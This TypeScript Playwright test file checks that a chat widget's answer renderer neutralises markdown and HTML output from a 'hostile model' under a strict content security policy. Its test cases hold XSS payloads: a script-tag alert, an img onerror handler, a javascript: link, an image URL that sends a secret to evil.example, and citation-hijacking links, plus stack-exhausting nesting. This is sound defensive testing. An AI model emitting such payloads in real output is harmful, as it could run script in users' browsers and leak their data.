/**
 * Renders hostile answers with the built renderer on a page that forbids everything, and looks at what came of
 * it: nothing may run, leave the page, be reported, or stand in the DOM that is not on the list.
 */
import { chromium, type Browser, type Page } from "playwright";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { hasCorpus, readJsonLines } from "../../../support/corpora.ts";
import { BROWSER_ARGUMENTS, findBrowser } from "../../../support/find-browser.ts";
import { serveBuiltWidget, version, type BuiltWidgetServer } from "./serve-built-widget.ts";

const CORPUS = "security/markdown-html-payloads.jsonl";

/** A stream may stop anywhere: each payload is also shown cut at this many places. */
const PREFIXES = 8;

/** `img-src` is open on purpose: an image that slipped through would show as a request. */
const POLICY =
  "default-src 'none'; script-src 'self'; img-src * data:; require-trusted-types-for 'script'; " +
  "trusted-types 'none'; base-uri 'none'; form-action 'none'";

const HARNESS = `
import { createAnswerRenderer } from "/v/${version}/renderer.js";
const labels = { code: "Code", table: "Table", copy: "Copy", copyCode: "Copy code", wrapCode: "Wrap", citation: (n, title) => "Source " + n + ": " + title };
const sources = [{ position: 1, title: "One", url: location.origin + "/one/#part", excerpt: "", score: 1 }];
const TAGS = new Set("p h3 h4 h5 h6 ul ol li blockquote hr br div span strong em del code pre a button table thead tbody tr th td".split(" "));
const ATTRIBUTES = new Set("class href target rel aria-label part role type tabindex scope start".split(" "));
const state = { ran: [], violations: [], dom: [] };
window.state = state;
for (const name of ["alert", "prompt", "confirm", "print", "open"]) window[name] = () => state.ran.push(name);
document.addEventListener("securitypolicyviolation", (event) => state.violations.push(event.effectiveDirective + " " + event.sample));
let ownKeys = 0;
const prototypeKeys = Reflect.ownKeys(Object.prototype).length;

function check(container, text) {
  for (const element of container.querySelectorAll("*")) {
    if (!TAGS.has(element.localName)) state.dom.push([element.localName, text]);
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.has(name)) state.dom.push([name + "=" + value, text]);
    }
    if (element.hasAttribute("href") && element.href !== sources[0].url) state.dom.push([element.href, text]);
  }
}

window.render = (payloads, prefixes) => {
  for (const text of payloads) {
    const container = document.createElement("div");
    document.body.append(container);
    const renderer = createAnswerRenderer(container, { labels });
    for (let cut = 1; cut <= prefixes; cut++) {
      renderer.update(text.slice(0, Math.floor((text.length * cut) / (prefixes + 1))), sources, { final: false });
      check(container, text);
    }
    renderer.update(text, sources, { final: true });
    check(container, text);
    container.remove();
  }
};
window.renderOne = (text) => {
  const container = document.createElement("div");
  createAnswerRenderer(container, { labels }).update(text, sources, { final: true });
  return container.innerHTML;
};
window.result = () => ({
  ...state,
  globals: Object.keys(window).length - ownKeys,
  prototype: Reflect.ownKeys(Object.prototype).length - prototypeKeys,
});
window.isReady = true;
ownKeys = Object.keys(window).length;
`;

interface Harness {
  render(payloads: string[], prefixes: number): void;
  renderOne(text: string): string;
  result(): {
    ran: string[];
    violations: string[];
    dom: [string, string][];
    globals: number;
    prototype: number;
  };
  isReady?: boolean;
}
declare const window: Harness;

let server: BuiltWidgetServer;
let browser: Browser;
let page: Page;
const foreignRequests: string[] = [];
const navigations: string[] = [];

beforeAll(async () => {
  server = await serveBuiltWidget((request, response) => {
    if (request.url === "/") {
      response.writeHead(200, { "content-type": "text/html", "content-security-policy": POLICY });
      response.end('<!doctype html><title>t</title><body><script type="module" src="/harness.js"></script>');
      return true;
    }
    if (request.url !== "/harness.js") return false;
    response.writeHead(200, { "content-type": "text/javascript" }).end(HARNESS);
    return true;
  });
  browser = await chromium.launch({ executablePath: await findBrowser(), args: BROWSER_ARGUMENTS });
  page = await browser.newPage();
  await page.goto(server.origin);
  await page.waitForFunction(() => window.isReady);
  page.on("request", (request) => foreignRequests.push(request.url()));
  page.on("framenavigated", (frame) => navigations.push(frame.url()));
  page.on("dialog", (dialog) => {
    foreignRequests.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/** Renders in batches, so that one stuck payload is named by a short list. */
async function renderAll(payloads: string[], prefixes: number): Promise<void> {
  for (let start = 0; start < payloads.length; start += 400) {
    await page.evaluate(([batch, cuts]) => window.render(batch, cuts), [
      payloads.slice(start, start + 400),
      prefixes,
    ] as const);
  }
}

async function expectNothingHappened(): Promise<void> {
  const result = await page.evaluate(() => window.result());
  expect(result).toEqual({ ran: [], violations: [], dom: [], globals: 0, prototype: 0 });
  expect(foreignRequests).toEqual([]);
  expect(navigations).toEqual([]);
  expect(await page.evaluate(() => window.renderOne("still **here** [1]"))).toContain(
    "<strong>here</strong>",
  );
}

describe("answers from a hostile model", () => {
  test.each([
    ["an image that reports home", "![x](https://evil.example/?secret=1)"],
    ["a script", "<script>alert(1)</script>"],
    ["a tag that makes marked emit raw text", "x <code> <img/src=x onerror=alert(1)>"],
    ["a javascript link", "[click](javascript:alert(1))"],
    ["a link that is no source", "[verify](https://evil.example)"],
    ["a definition that takes over a citation", "see [1]\n\n[1]: https://evil.example"],
    ["an invented citation with a target", "see [1](https://evil.example) and [99]"],
    ["nesting that exhausts the stack", ">".repeat(5000) + "x"],
    ["a list that exhausts the stack", "- ".repeat(4000) + "x"],
  ])("%s does nothing", async (_name, text) => {
    await renderAll([text], PREFIXES);
    await expectNothingHappened();
  });

  test("a citation leads to its source and nowhere else", async () => {
    const markup = await page.evaluate(() => window.renderOne("a [1] b [2] c [1](https://evil.example)"));
    expect(markup.match(/<a /g)).toHaveLength(2);
    expect(markup).not.toContain("evil");
    expect(markup).not.toContain("[2]");
    expect(markup).toContain('aria-label="Source 1: One"');
  });

  const corpus = hasCorpus(CORPUS)
    ? readJsonLines<{ payload: string }>(CORPUS).map(({ payload }) => payload)
    : [];

  test.skipIf(corpus.length === 0)(
    "the whole corpus of markdown and HTML payloads does nothing",
    async () => {
      await renderAll(corpus, 0);
      await expectNothingHappened();
    },
    180_000,
  );

  test.skipIf(corpus.length === 0)(
    "payloads that are cut in mid-stream do nothing",
    async () => {
      await renderAll(corpus, PREFIXES);
      await expectNothingHappened();
    },
    600_000,
  );
});
